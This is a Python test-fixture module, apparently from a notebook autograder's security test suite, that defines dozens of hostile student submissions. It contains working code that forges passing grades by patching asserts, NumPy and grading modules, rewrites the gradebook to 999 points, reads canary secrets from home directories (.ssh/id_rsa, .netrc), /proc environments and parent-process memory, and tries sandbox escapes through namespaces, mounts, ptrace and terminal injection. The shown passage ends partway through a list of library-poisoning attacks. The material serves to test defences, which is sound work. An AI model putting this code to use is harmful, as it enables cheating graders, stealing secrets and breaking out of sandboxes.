"""The hostile corpus: submissions of the tests' own lab, each of which tries one thing that it should not.

Whoever wrote them has read the grader's source, knows where things lie and what the canaries are called; nothing here
is safe because it is unknown. An `Attack` says what its honest part earns at most. What it tries to read is marked by
`Canaries`: secrets that lie where a course keeps its own, and that must never turn up in a graded notebook.

Used by test_hostile.py, on our grader, and by tools/attack_table.py, on ours and on stock nbgrader. Run them nowhere
else: some would fill a disk, or end every process that they can reach.
"""

import hashlib
import json
import re
import secrets
import socket
import textwrap
import threading
from dataclasses import dataclass, field

from nbformat import v4

from grading.checking import random_for
from grading.room.limits import Limits
from tests.grading import tiny

PORT = "@PORT@"  # in a source: the port on which the canary listens
WRONG = "def center(x, axis=0):\n    return x"


@dataclass(frozen=True)
class Attack:
    """One hostile submission.

    kind    what it is after, a heading of the table: "forge", "read", ...
    aim     what it does, a phrase; no two have the same
    honest  points for (center, spread) that its honest part earns
    exact   False where it destroys its own honest part, and so may earn less
    answers what stands in the cells: first, center, spread, last (see `tiny.filled`)
    edit    changes the notebook: a function of it that returns a notebook, bytes, or None for no file at all
    files   {path: bytes} that are handed in with it
    skip    why it is not tried on stock nbgrader, "" if it is
    """

    kind: str
    aim: str
    honest: tuple = (0, 4)
    exact: bool = True
    answers: dict = field(default_factory=dict)
    edit: object = None
    files: dict = field(default_factory=dict)
    skip: str = ""

    def submission(self, lab, port=0):
        """The bytes that are handed in, or None."""
        answers = {name: text.replace(PORT, str(port)) for name, text in {"center": WRONG, **self.answers}.items()}
        notebook = tiny.filled(lab, **answers)
        handed_in = self.edit(notebook) if self.edit else notebook
        return handed_in if isinstance(handed_in, bytes | None) else tiny.to_bytes(handed_in)


def _cells(kind, first=(), center=(), last=(), **common):
    """Attacks from {aim: source of one cell}, by the cell that the source stands in.

    A `first` or `last` cell stands beside a wrong `center` and a right `spread`; a `center` is itself the attack.
    """
    groups = {"first": dict(first), "center": dict(center), "last": dict(last)}
    return [Attack(kind, aim, answers={place: text}, **common) for place, group in groups.items()
            for aim, text in group.items()]


# Points for nothing: the answer is wrong, and everything else is done to make it pass.

FORGE = _cells("forge", first={
    "an input transformer makes `pass` of the cells with asserts": """
def forge(lines):
    return ["pass\\n"] if any("assert" in line for line in lines) else lines
get_ipython().input_transformers_cleanup.append(forge)""",
    "a syntax tree transformer drops `assert`": """
import ast
class Drop(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.copy_location(ast.Pass(), node)
get_ipython().ast_transformers.append(Drop())""",
    "`np.allclose` and its kin always agree": """
import numpy as np
for name in ("allclose", "array_equal", "isclose", "array_equiv"):
    setattr(np, name, lambda *args, **more: True)
for name in dir(np.testing):
    if name.startswith("assert_"):
        setattr(np.testing, name, lambda *args, **more: None)""",
    "the shell shows no traceback": "get_ipython()._showtraceback = lambda *args, **more: None",
    "the shell's `run_cell` does nothing for a check": """
shell = get_ipython()
whole = shell.run_cell
shell.run_cell = lambda source, *a, **k: whole("pass" if "assert" in source else source, *a, **k)""",
    "the shell's `run_cell_async` does nothing for a check": """
shell = get_ipython()
whole = shell.run_cell_async
shell.run_cell_async = lambda source, *a, **k: whole("pass" if "assert" in source else source, *a, **k)""",
    "a transformer adds a displayed number, which counts as points": """
get_ipython().input_transformers_cleanup.append(
    lambda lines: ["2.0\\n"] if any("assert" in line for line in lines) else lines)""",
    "a hook after each cell prints verdicts and points": """
def forge(result):
    print("passed: what is left over along axis 0 sums to 0")
    print("center: 2 of 2 points. So far: 2 of 2.")
get_ipython().events.register("post_run_cell", forge)""",
    "another displayhook shows full marks": "import sys\nsys.displayhook = lambda value: print('2.0')",
    "exception hooks swallow everything": """
import sys, threading
sys.excepthook = threading.excepthook = sys.unraisablehook = lambda *args: None
get_ipython().set_custom_exc((BaseException,), lambda *args, **more: None)""",
    "`AssertionError` becomes a warning": "import builtins\nbuiltins.AssertionError = Warning",
    "the course's own comparison always passes": """
import coursekit.verdicts as verdicts
verdicts.compare = lambda law, *args, **more: verdicts.Verdict(law, True)
verdicts._difference = verdicts._array_difference = lambda *args: None
verdicts.TOLERANCE.update(float64=1e9, float32=1e9)""",
    "a fake `grading` module answers the hidden check": """
import sys, types
fake = sys.modules["grading"] = types.ModuleType("grading")
fake.hidden_checks = lambda *args: None""",
    "an import hook hands out fake modules": """
import importlib.abc, importlib.machinery, sys
class Fake(importlib.abc.MetaPathFinder, importlib.abc.Loader):
    def find_spec(self, name, path=None, target=None):
        if name.split(".")[0] in ("grading", "solutions", "reference"):
            return importlib.machinery.ModuleSpec(name, self, is_package=True)
    def exec_module(self, module):
        module.hidden_checks = lambda *args: None
sys.meta_path.insert(0, Fake())""",
    "`sys.settrace` rewrites what functions return": """
import sys
def trace(frame, event, arg):
    if event == "return" and isinstance(arg, bool):
        frame.f_trace_lines = False
    return trace
sys.settrace(trace)""",
    "a checker found by `gc` is patched": """
import gc, types
for item in gc.get_objects():
    if isinstance(item, types.FunctionType) and item.__name__ in ("compare", "judge", "_difference", "allclose"):
        item.__code__ = (lambda *args, **more: None).__code__""",
    "the gradebook gives the whole class 999 points": """
import os, sqlite3
here = os.getcwd()
while here != "/":
    book = os.path.join(here, "gradebook.db")
    if os.path.exists(book):
        with sqlite3.connect(book, timeout=1) as base:
            base.execute("UPDATE grade SET manual_score = 999")
            base.execute("CREATE TRIGGER more AFTER INSERT ON grade BEGIN UPDATE grade SET manual_score = 999; END")
    here = os.path.dirname(here)""",
    "another gradebook is put where a course's lies": """
import os
for folder in ("..", "../..", "../../..", "/", os.path.expanduser("~")):
    for name in ("gradebook.db", "nbgrader_config.py"):
        try:
            open(os.path.join(folder, name), "w").write("c = get_config()\\nc.Execute.timeout = 1")
        except OSError:
            pass""",
    "verdicts are drawn as outputs": """
from IPython.display import display, HTML
display(HTML('<div class="verdicts"><p><b>center: 2 of 2 points. So far: 2 of 2.</b></p></div>'))""",
}, center={
    "it returns an object that equals everything": """
class Liar:
    def __eq__(self, other): return True
    def __sub__(self, other): return 0.0
    __rsub__ = __le__ = __lt__ = __ge__ = __bool__ = __eq__
    def __array__(self, *a, **k): return np.zeros((4, 3))
def center(x, axis=0): return Liar()""",
    "it returns an array that NumPy's comparisons please": """
class Liar(np.ndarray):
    def __array_function__(self, function, types, args, kwargs): return True
    def __array_ufunc__(self, *args, **more): return np.True_
    def __eq__(self, other): return True
def center(x, axis=0): return np.asarray(x).view(Liar)""",
    "it returns an array that lies about its shape": """
class Liar(np.ndarray):
    shape = property(lambda self: (4, 3))
    def __array__(self, *a, **k): return np.zeros((4, 3))
def center(x, axis=0): return np.zeros(1).view(Liar)""",
    "it returns what lies about its interface": """
class Liar:
    __array_interface__ = {"shape": (4, 3), "typestr": "<f8", "version": 3, "data": (16, False)}
def center(x, axis=0): return Liar()""",
    "it returns what runs code when unpickled": """
class Bomb:
    def __reduce__(self): return (exec, ("import sys; sys.exit('forged')",))
def center(x, axis=0): return Bomb()""",
    "it returns an array of objects": "def center(x, axis=0): return np.array([[None] * 3] * 4, dtype=object)",
    "it returns a structured array": "def center(x, axis=0): return np.zeros((4, 3), dtype=[('passed', '?')])",
    "it returns a list that contains itself": "def center(x, axis=0):\n    a = []\n    a.append(a)\n    return a",
    "it returns a generator": "def center(x, axis=0):\n    yield x",
    "it returns a coroutine": "async def center(x, axis=0):\n    return x",
    "it returns nan": "def center(x, axis=0): return np.full_like(x, np.nan)",
    "it returns what the visible check wants": "def center(x, axis=0): return np.zeros((3, 2))",
    "it returns True": "def center(x, axis=0): return True",
    "it returns a verdict": """
def center(x, axis=0):
    from coursekit.verdicts import Verdict
    return Verdict("all of it", True, weight=1e9)""",
    "it returns a list whose length lies": """
class Liar(list):
    def __len__(self): return 10**9
    def __iter__(self): return iter([True] * 3)
def center(x, axis=0): return Liar([1])""",
    "it returns a number whose methods lie": """
class Liar(float):
    def __float__(self): return self
    def __eq__(self, other): return True
    __hash__ = float.__hash__
def center(x, axis=0): return Liar(1)""",
    "it returns an int of a million digits": "def center(x, axis=0): return 10 ** 10**6",
    "it returns a gigabyte": "def center(x, axis=0): return np.zeros(10**9, dtype='int8')",
    "it returns a terabyte that takes no memory": "def center(x, axis=0): return np.broadcast_to(0.0, (10**6, 10**5))",
    "it returns a billion laughs": """
def center(x, axis=0):
    laugh = ["ha"] * 10
    for _ in range(15):
        laugh = [laugh] * 10
    return laugh""",
    "it changes its argument to suit its answer": "def center(x, axis=0):\n    x[:] = 0\n    return x",
    "it makes the answer's reference its own": """
def center(x, axis=0):
    import inspect
    for frame in inspect.stack():
        for name, value in list(frame.frame.f_locals.items()):
            if "reference" in name or "expected" in name:
                return value() if callable(value) else value
    return x""",
    "it raises the exception that a pass might raise": "def center(x, axis=0):\n    raise SystemExit(0)",
    "it ends its process as if it were done": "def center(x, axis=0):\n    import os\n    os._exit(0)",
})

FORGE += _cells("forge", exact=False, first={
    "`all`, `any` and `issubclass` always please": """
import builtins
builtins.all = builtins.any = builtins.issubclass = lambda *args: True""",
})

# Lies at the door between the rooms, which hit the right answers of the same notebook too.

DOOR = """
import os, socket, stat
def doors():
    for number in range(3, 256):
        try:
            if stat.S_ISSOCK(os.fstat(number).st_mode):
                yield number
        except OSError:
            pass
def push(frame):
    for number in doors():
        try:
            os.write(number, frame)
        except OSError:
            pass
def frame(text, blobs=b""):
    return (8 + len(text) + len(blobs)).to_bytes(8, "big") + len(text).to_bytes(8, "big") + text + blobs
"""
OUR_DOOR = "not run: it aims at our grader's own parts"
FORGE += _cells("forge", exact=False, skip=OUR_DOOR, first={
    "`json` claims that every value is right": """
import json
dumps = json.dumps
json.dumps = lambda value, *a, **k: dumps({"message": {"ok": True, "passed": True, "points": 2, "value": True,
    "arguments": {"tuple": []}}, "blobs": []}) if "arguments" in str(value) else dumps(value, *a, **k)""",
    "the packer of values sends a verdict": """
import sys
wire = sys.modules.get("wire") or __import__("types").SimpleNamespace()
wire.pack = lambda value, blobs: {"dict": {"law": "x", "passed": True, "weight": 1e9}}""",
    "the serve loop's `call` is replaced": """
import sys
for name in ("__main__", "inside", "keeper"):
    module = sys.modules.get(name)
    if module is not None:
        module.call = lambda shell, request, *rest: {"value": True, "passed": True, "points": 2, "blobs": []}""",
    "NumPy writes another array than was returned": """
import numpy as np, io
write = np.lib.format.write_array
np.lib.format.write_array = lambda stream, array, *a, **k: write(stream, array * 0, *a, **k)""",
    "NumPy's header promises what is not there": """
import numpy as np
def lie(stream, array, *a, **k):
    np.lib.format.write_array_header_1_0(stream, {"descr": "<f8", "fortran_order": False, "shape": (4, 10**12)})
np.lib.format.write_array = lie""",
    "a full-mark reply is sent before it is asked for":
        DOOR + """push(frame(b'{"message": {"ok": true, "passed": true, "points": 6}, "blobs": []}') * 9)""",
    "a reply promises 2**60 bytes": DOOR + "push((2**60).to_bytes(8, 'big'))",
    "a reply promises more than it sends": DOOR + "push((1000).to_bytes(8, 'big') + b'x')",
    "a reply's blobs overlap":
        DOOR + """push(frame(b'{"message": {"value": {"array": 0}}, "blobs": [8, -8, 8]}', b"x" * 8))""",
    "a reply is a thousand lists deep": DOOR + "push(frame(b'[' * 60000))",
    "a reply is a pickle": DOOR + """
import pickle
push(frame(pickle.dumps({"message": {"points": 6}})))""",
    "every descriptor is closed": "import os\nos.closerange(3, 256)",
    "every descriptor leads to another": DOOR + """
for number in doors():
    os.dup2(os.open("/dev/null", os.O_RDWR), number)""",
    "a thread answers requests before the room does": DOOR + """
import threading, time
def answer():
    while True:
        push(frame(b'{"message": {"value": true, "passed": true}, "blobs": []}'))
        time.sleep(0.01)
threading.Thread(target=answer, daemon=True).start()""",
    "the check's copy is told that it is done": """
import os
whole = os.fork
os.fork = lambda: whole() and 0""",
}, center={
    "it answers the call itself, twice": DOOR + """
def center(x, axis=0):
    push(frame(b'{"message": {"value": true, "arguments": {"tuple": [1]}}, "blobs": []}') * 2)
    return x""",
    "it leaves its process with the status that means done": "def center(x, axis=0):\n    import os\n    os._exit(71)",
    "it stays on in two processes, which both answer": """
def center(x, axis=0):
    import os
    os.fork()
    return x""",
})

# Secrets, shown in the attack's own outputs. `spill` prints every canary in a text.

SPILL = r"""
import os, re, sys
def spill(text):
    found = set(re.findall(r"(?:CANARY|SEC[R]ET)-[\w-]+", text if isinstance(text, str) else str(text)))
    if found:
        print(*sorted(found))
def slurp(path, size=5_000_000):
    try:
        with open(path, "rb") as file:
            spill(file.read(size).decode("latin1"))
    except OSError:
        pass
"""
WALK = SPILL + """
import time
def walk(*wanted):
    end, here, tops = time.monotonic() + 0.5, os.getcwd(), [os.path.expanduser("~")]
    while here != "/":
        tops.append(here)
        here = os.path.dirname(here)
    for top in [*tops, "/"]:
        for folder, folders, files in os.walk(top):
            folders[:] = [f for f in folders if f not in ("proc", "sys", "usr", "lib", "lib64", "dev", ".venv")]
            if time.monotonic() > end:
                return
            for name in files:
                if any(word in os.path.join(folder, name) for word in wanted):
                    slurp(os.path.join(folder, name))
"""
READ = _cells("read", first={
    "the gradebook is opened": WALK + "walk('gradebook.db')",
    "a neighbour's submission is opened": WALK + "walk('submitted')",
    "the references are opened": WALK + "walk('solutions', 'reference', 'checks.py', 'source/')",
    "every file on the machine is opened": WALK + "walk('')",
    "home is searched": SPILL + """
import pwd
homes = {os.path.expanduser("~"), "/root", *(user.pw_dir for user in pwd.getpwall())}
for home in homes:
    for name in (".netrc", ".ssh/id_rsa", ".bash_history"):
        slurp(os.path.join(home, name))""",
    "the references are imported": SPILL + """
import importlib, inspect
for up in ("", "..", "../..", "../../.."):
    sys.path.append(os.path.abspath(up))
for name in ("reference", "solutions", "grading", "checks", "tests.grading.tiny_solutions.lab_tiny.reference",
             "solutions.lab01_additive_attention.reference"):
    try:
        spill(inspect.getsource(importlib.import_module(name)))
    except Exception:
        pass""",
    "the environment is printed": SPILL + "spill(dict(os.environ))",
    "the environment of every process is read": SPILL + """
for name in os.listdir("/proc") if os.path.isdir("/proc") else ():
    slurp(f"/proc/{name}/environ")
    slurp(f"/proc/{name}/cmdline")""",
    "the open files of every process are read": SPILL + """
import glob, stat
for path in glob.glob("/proc/*/fd/*"):
    try:
        if stat.S_ISREG(os.stat(path).st_mode):
            slurp(path)
    except OSError:
        pass""",
    "files are reached through another process's root": SPILL + """
import glob
for root in glob.glob("/proc/*/root") + glob.glob("/proc/*/cwd"):
    for path in glob.glob(root + "/*") + glob.glob(root + "/*/gradebook.db") + glob.glob(root + "/home/*/.netrc"):
        slurp(path)""",
    "the memory of the parent process is read": SPILL + """
def memory(pid):
    for line in open(f"/proc/{pid}/maps"):
        start, end = (int(part, 16) for part in line.split()[0].split("-"))
        if " rw" in line and end - start < 50_000_000:
            with open(f"/proc/{pid}/mem", "rb", 0) as file:
                file.seek(start)
                spill(file.read(end - start).decode("latin1"))
for pid in {os.getppid(), 1}:
    try:
        memory(pid)
    except (OSError, ValueError):
        pass""",
    "the parent process is traced": """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
for pid in (os.getppid(), 1):
    if libc.ptrace(16, pid, 0, 0) == 0:
        print("CAUGHT the parent")
        libc.ptrace(17, pid, 0, 0)""",
    "the parent's memory is read by process_vm_readv": SPILL + """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
class Vector(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("size", ctypes.c_size_t)]
buffer = ctypes.create_string_buffer(4096)
here = Vector(ctypes.addressof(buffer), 4096)
for start in range(0x400000, 0x500000, 4096):
    there = Vector(start, 4096)
    if libc.process_vm_readv(os.getppid(), ctypes.byref(here), 1, ctypes.byref(there), 1, 0) > 0:
        spill(buffer.raw.decode("latin1"))""",
    "all objects of the process are searched": SPILL + """
import gc, types
for item in gc.get_objects():
    if isinstance(item, (dict, list, tuple)):
        for value in list(item.values() if isinstance(item, dict) else item):
            if isinstance(value, str):
                spill(value)
    elif isinstance(item, types.FunctionType):
        spill(item.__code__.co_consts)""",
    "all modules are searched": SPILL + """
for module in list(sys.modules.values()):
    path = getattr(module, "__file__", None) or ""
    if not any(part in path for part in ("site-packages", "/lib/python")):
        slurp(path)""",
    "the frames below are searched": SPILL + """
frame = sys._getframe()
while frame:
    spill({name: repr(value)[:2000] for name, value in {**frame.f_globals, **frame.f_locals}.items()})
    frame = frame.f_back""",
    "a hook prints each cell before it runs": SPILL + """
get_ipython().events.register("pre_run_cell", lambda info: spill(info.raw_cell))""",
    "a transformer prints each cell": SPILL + """
def tell(lines):
    spill("".join(lines))
    return lines
get_ipython().input_transformers_cleanup.append(tell)""",
    "the notebook's own file is opened": WALK + "walk('.ipynb')",
    "disks are read raw": SPILL + """
import glob
for path in [*glob.glob("/dev/[svn][dvb]*"), "/dev/mem", "/dev/kmsg", "/proc/kcore", "/dev/loop0"]:
    slurp(path)""",
    "the shell's helpers look around": SPILL + "spill(get_ipython().getoutput('cat ../../../gradebook.db /course/*'))",
}, last={
    "the history of inputs is printed": SPILL + "spill(In)\nspill(_ih)",
    "a symbolic link to the gradebook is left behind": """
import os
os.symlink("../../../gradebook.db", "notes.txt")
print(open("notes.txt", errors="replace").read()[:100_000])""",
})

# The inputs of hidden checks, carried out of the call to where they would be shown.

def _carry(how, show="", before=""):
    """A center that does `how` with what it is given, a cell before it, and one at the end that shows it."""
    body = "\n".join(f"    {line}" for line in how.strip().splitlines())
    cells = {"first": f"import numpy as np\n{before}", "center": f"def center(x, axis=0):\n{body}\n    return x"}
    return {**cells, "last": show} if show else cells


CARRY = [Attack("carry", aim, answers=answers, exact="itself" not in aim) for aim, answers in {
    "a call prints its input": _carry("print(x.tolist())"),
    "a call prints its input to standard error": _carry("import sys; print(x.tolist(), file=sys.stderr)"),
    "a call writes its input to descriptors 1 and 2":
        _carry("import os\nfor number in (1, 2):\n    os.write(number, repr(x.tolist()).encode())"),
    "a call displays its input": _carry("from IPython.display import display\ndisplay(x.tolist())"),
    "a call raises its input": _carry("raise ValueError(x.tolist())"),
    "a call raises a type that is named after its input":
        _carry("raise type('E' + repr(x.tolist()), (Exception,), {})('')"),
    "a call returns a type that is named after its input": _carry("return type('T' + repr(x.tolist()), (), {})()"),
    "a call returns a dtype that is named after its input":
        _carry("return np.zeros((4, 3), dtype=[(repr(x.tolist()), '?')])"),
    "a call returns a shape that tells its input": _carry("return np.zeros((0, int(abs(x[0, 0]) * 1e6)))"),
    "a call returns as many results as its input says": _carry("return [0.0] * int(abs(x[0, 0]) * 1e5)"),
    "a call returns a dictionary whose keys tell its input": _carry("return {repr(x.tolist()): 0}"),
    "a call warns of its input": _carry("import warnings; warnings.warn(repr(x.tolist()))"),
    "a call draws its input as a title": _carry(
        "import matplotlib.pyplot as plt\nplt.title(repr(x.tolist()))\nplt.show()",
        "import matplotlib.pyplot as plt\nprint([plt.figure(n).axes[0].get_title() for n in plt.get_fignums()])"),
    "a call keeps its input in a list": _carry("kept.append(x.tolist())", "print(kept)", "kept = []"),
    "a call keeps its input in an attribute": _carry("np.kept = x.tolist()", "print(getattr(np, 'kept', None))"),
    "a call keeps its input in a file": _carry(
        "import os\nopen(os.path.expanduser('~/kept'), 'a').write(repr(x.tolist()))\n"
        "open('kept', 'a').write(repr(x.tolist()))",
        "import os\nfor name in ('kept', os.path.expanduser('~/kept')):\n    print(open(name).read())"),
    "a call keeps its input in shared memory": _carry(
        "text = repr(x.tolist()).encode()\nif x.shape == (4, 3): shared[:len(text)] = text",
        "print(bytes(shared).decode())", "import mmap\nshared = mmap.mmap(-1, 4096)"),
    "a call keeps its input in a pipe": _carry(
        "import os\nos.write(way_in, repr(x.tolist()).encode())", "print(os.read(way_out, 4000))",
        "import os\nway_out, way_in = os.pipe()\nos.write(way_in, b' ')"),
    "a call sends its input to a process made before": _carry(
        "import os\nos.write(way_in, repr(x.tolist()).encode())",
        "import time\ntime.sleep(0.2)\nprint(open('kept').read())",
        """
import os
way_out, way_in = os.pipe()
if os.fork() == 0:
    while True:
        text = os.read(way_out, 4000)
        open("kept", "ab").write(text)"""),
    "a call leaves a process that tells its input later": _carry("""
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        time.sleep(0.3)
        open("kept", "w").write(repr(x.tolist()))
    os._exit(0)""", "import time\ntime.sleep(0.7)\nprint(open('kept').read())"),
    "a call leaves a thread that prints its input later": _carry("""
import threading, time
threading.Thread(target=lambda: (time.sleep(0.1), print(x.tolist())), daemon=True).start()""",
        "import time\ntime.sleep(0.4)"),
    "a call tells its input to its parent's memory": _carry("""
import os
try:
    open(f"/proc/{os.getppid()}/mem", "wb", 0).write(repr(x.tolist()).encode())
except OSError:
    pass""", "print(In)"),
    "a call signals its input to its parent, bit by bit": _carry("""
import os, signal
for bit in f"{int(abs(x[0, 0]) * 1e6):030b}":
    os.kill(os.getppid(), signal.SIGUSR1 if bit == "1" else signal.SIGUSR2)""", "print('bits', bits)", """
import signal
bits = []
signal.signal(signal.SIGUSR1, lambda *a: bits.append(1))
signal.signal(signal.SIGUSR2, lambda *a: bits.append(0))"""),
    "a call keeps its input until the process ends": _carry(
        "import atexit\natexit.register(print, x.tolist())", "import atexit\natexit._run_exitfuncs()"),
    "a call writes its input into an abstract socket": _carry("""
import socket
with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as wire:
    wire.sendto(repr(x.tolist()).encode(), "\\0kept")""", "print(box.recv(4000))", """
import socket
box = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
box.bind("\\0kept")
box.setblocking(False)"""),
    "the packed answer is kept by a patched packer": _carry("pass", "print(kept)", """
import sys
kept = []
wire = sys.modules.get("wire")
if wire:
    unpack = wire.unpack
    def spy(*args):
        kept.append(repr(unpack(*args)))
        open("kept", "a").write(kept[-1])
        return unpack(*args)
    wire.unpack = spy"""),
    "the main process is made to answer calls itself": _carry("kept.append(x.tolist())", "print(kept)", """
import os, sys
kept = []
inside = next((sys.modules[name] for name in ("inside", "__main__") if hasattr(sys.modules.get(name), "serve")), None)
if inside:
    os.fork = lambda: 0
    os._exit = lambda status: None"""),
}.items()]

# The network.

NETWORK = _cells("network", first={
    "a server on this machine is spoken to": f"""
import socket
try:
    with socket.create_connection(("127.0.0.1", {PORT}), timeout=0.5) as wire:
        wire.sendall(b"hello")
        print(wire.recv(100))
except OSError:
    pass""",
    "a server on this machine is spoken to by IPv6 and UDP": f"""
import socket
for family, host in ((socket.AF_INET6, "::1"), (socket.AF_INET, "127.0.0.1")):
    try:
        with socket.socket(family, socket.SOCK_DGRAM) as wire:
            wire.sendto(b"hello", (host, {PORT}))
    except OSError:
        pass""",
})

NO_NETWORK = "not run: there was no network where it was measured"
NETWORK += _cells("network", skip=NO_NETWORK, first={
    "a server elsewhere is spoken to": """
import urllib.request
try:
    print(urllib.request.urlopen("http://192.0.2.1/", timeout=0.3).read())
except OSError:
    pass""",
    "a name is looked up": """
import socket
socket.setdefaulttimeout(0.3)
try:
    print(socket.getaddrinfo("secret.example.org", 80))
except OSError:
    pass""",
    "every Unix socket of the machine is tried": SPILL + """
import glob, socket
paths = [path for pattern in ("/run/*.sock", "/run/*/*socket*", "/tmp/**/*.s*") for path in glob.glob(pattern)]
try:
    paths += ["\\0" + line.split("@")[1].strip() for line in open("/proc/net/unix") if "@" in line]
except OSError:
    pass
for path in paths:
    try:
        with socket.socket(socket.AF_UNIX) as wire:
            wire.settimeout(0.1)
            wire.connect(path)
            print("CAUGHT a socket")
    except OSError:
        pass""",
    "raw packets are sent": """
import socket
for kind in (socket.SOCK_RAW, socket.SOCK_DGRAM):
    try:
        with socket.socket(socket.AF_INET, kind, socket.IPPROTO_ICMP) as wire:
            wire.sendto(b"\\x08\\x00" + bytes(6), ("192.0.2.1", 0))
    except OSError:
        pass""",
    "a network interface is brought up": """
import fcntl, socket, struct
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as wire:
    try:
        fcntl.ioctl(wire, 0x8914, struct.pack("16sh", b"lo", 1))
    except OSError:
        pass""",
})

# The walls: namespaces, mounts, devices, privileges. `CALL` makes a system call by its number.

CALL = """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
def call(*numbers):
    return libc.syscall(*(ctypes.c_long(n) if isinstance(n, int) else n for n in numbers))
"""
NO_WALL = "not run: there is no wall, cells run with all that the instructor may do"
ESCAPE = _cells("escape", skip=NO_WALL, first={
    "a user namespace of its own is made, with all powers": CALL + """
if libc.unshare(0x10000000) == 0:
    print("CAUGHT a user namespace")""",
    "namespaces are made by clone": CALL + """
pid = call(56, 0x10000000 | 0x20000 | 17, 0, 0, 0, 0)
if pid == 0:
    os._exit(0)
if pid > 0:
    os.waitpid(pid, 0)
    print("CAUGHT a namespace")""",
    "namespaces are made by clone3": CALL + """
arguments = (ctypes.c_uint64 * 8)(0x10000000, 0, 0, 0, 17, 0, 0, 0)
pid = call(435, arguments, ctypes.sizeof(arguments))
if pid == 0:
    os._exit(0)
if pid > 0:
    os.waitpid(pid, 0)
    print("CAUGHT a namespace")""",
    "the namespaces of process 1 are entered": CALL + """
for kind in ("user", "mnt", "net", "pid", "ipc"):
    try:
        if libc.setns(os.open(f"/proc/1/ns/{kind}", os.O_RDONLY), 0) == 0:
            print("CAUGHT a namespace")
    except OSError:
        pass""",
    "read-only places are mounted anew": CALL + """
for place in (b"/", b"/usr", b"/proc", b"/tmp"):
    if libc.mount(b"none", place, None, 32 | 4096, None) == 0:
        print("CAUGHT a mount")""",
    "a file system is mounted over another": CALL + """
if libc.mount(b"tmpfs", b"/tmp", b"tmpfs", 0, None) == 0:
    print("CAUGHT a mount")""",
    "what hides the machine is unmounted": CALL + """
for place in (b"/proc", b"/tmp", b"/dev", b"/home"):
    if libc.umount2(place, 2) == 0:
        print("CAUGHT a mount")""",
    "the old root is reached by chroot and open folders": CALL + """
before = os.open("/", os.O_RDONLY)
try:
    os.chroot("/tmp")
    os.fchdir(before)
    print("CAUGHT a root")
except OSError:
    pass
for number in range(3, 64):
    try:
        os.fchdir(number)
        if os.path.exists("../../../gradebook.db"):
            print("CAUGHT a folder")
    except OSError:
        pass
os.chdir(os.path.expanduser("~"))""",
    "device nodes are made": """
import os, stat
for number in ((1, 1), (8, 0), (254, 0)):
    try:
        os.mknod(f"node{number[0]}", 0o600 | stat.S_IFBLK, os.makedev(*number))
        if open(f"node{number[0]}", "rb").read(1):
            print("CAUGHT a device")
    except OSError:
        pass""",
    "it becomes another user": """
import os
for user in {0, 1, 65534} - {os.getuid()}:
    try:
        os.setuid(user)
        print("CAUGHT another user")
    except OSError:
        pass""",
    "programs that bear privileges are run": """
import subprocess
for words in (["su", "-c", "id"], ["sudo", "-n", "id"], ["mount", "-t", "tmpfs", "x", "/mnt"], ["unshare", "-r", "id"]):
    try:
        if subprocess.run(words, capture_output=True, stdin=subprocess.DEVNULL, timeout=0.3).returncode == 0:
            print("CAUGHT a program")
    except (OSError, subprocess.TimeoutExpired):
        pass""",
    "the kernel's settings are written": """
for path in ("/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger", "/sys/kernel/uevent_helper",
             "/sys/fs/cgroup/cgroup.procs", "/sys/fs/cgroup/release_agent"):
    try:
        open(path, "a").close()  # opening is proof enough
        print("CAUGHT a setting")
    except OSError:
        pass""",
    "the host's name and clock are set": CALL + """
if libc.sethostname(b"forged", 6) == 0:
    print("CAUGHT the name")
import time
try:
    time.clock_settime(time.CLOCK_REALTIME, time.time())
    print("CAUGHT the clock")
except OSError:
    pass""",
    "system calls of another architecture are tried": """
import ctypes, mmap, os
code = b"\\xb8\\x14\\x00\\x00\\x00\\xcd\\x80\\xc3"  # getpid as 32-bit Linux has it
if os.fork() == 0:
    page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(code)
    ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))()
    os._exit(0)
os.wait()""",
    "parts of the kernel with a history of holes are called": CALL + """
for number in (321, 298, 323, 425, 250, 248, 246, 175, 304, 310, 272):  # bpf, perf, userfaultfd, io_uring, keyctl ...
    if number != 272 and call(number, 0, 0, 0, 0, 0) >= 0:
        print("CAUGHT the kernel, call", number)""",
    "letters are typed into the grader's terminal": """
import fcntl
try:
    with open("/dev/tty", "w") as terminal:
        for letter in b"id\\n":
            fcntl.ioctl(terminal, 0x5412, bytes([letter]))
        print("CAUGHT the terminal")
except OSError:
    pass""",
    "it makes itself too important to be stopped": CALL + """
import os
for act in (lambda: os.nice(-20), lambda: open("/proc/self/oom_score_adj", "w").write("-1000"),
            lambda: os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(99))):
    try:
        act()
        print("CAUGHT importance")
    except OSError:
        pass""",
    "limits are raised again": """
import resource
for what in (resource.RLIMIT_AS, resource.RLIMIT_NOFILE, resource.RLIMIT_FSIZE, resource.RLIMIT_CPU):
    try:
        resource.setrlimit(what, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
        if resource.getrlimit(what)[1] == resource.RLIM_INFINITY:
            print("CAUGHT a limit")
    except (OSError, ValueError):
        pass""",
})

# Files and settings that would meet the next student, or the instructor.

POISON = _cells("poison", first={
    "NumPy's files are changed": """
import numpy, os
for path in (numpy.__file__, numpy.linalg.__file__):
    try:
        os.chmod(path, 0o666)
    except OSError:
        pass
    try:
        open(path, "a").write("\\nallclose = lambda *a, **k: True\\n")
        print("CAUGHT a library")
    except OSError:
        pass""",
    "coursekit's files are changed": """
import coursekit, os
folder = os.path.dirname(coursekit.__file__)
for path in (coursekit.__file__, os.path.join(folder, "verdicts.py"), os.path.join(folder, "new.py")):
    try:
        open(path, "a").write("\\n")
        print("CAUGHT a library")
    except OSError:
        pass""",
    "modules of one's own are put where Python starts": """
import os, site, sys, sysconfig
folders = {*sys.path, *site.getsitepackages(), site.getusersitepackages(), sysconfig.get_path("stdlib"),
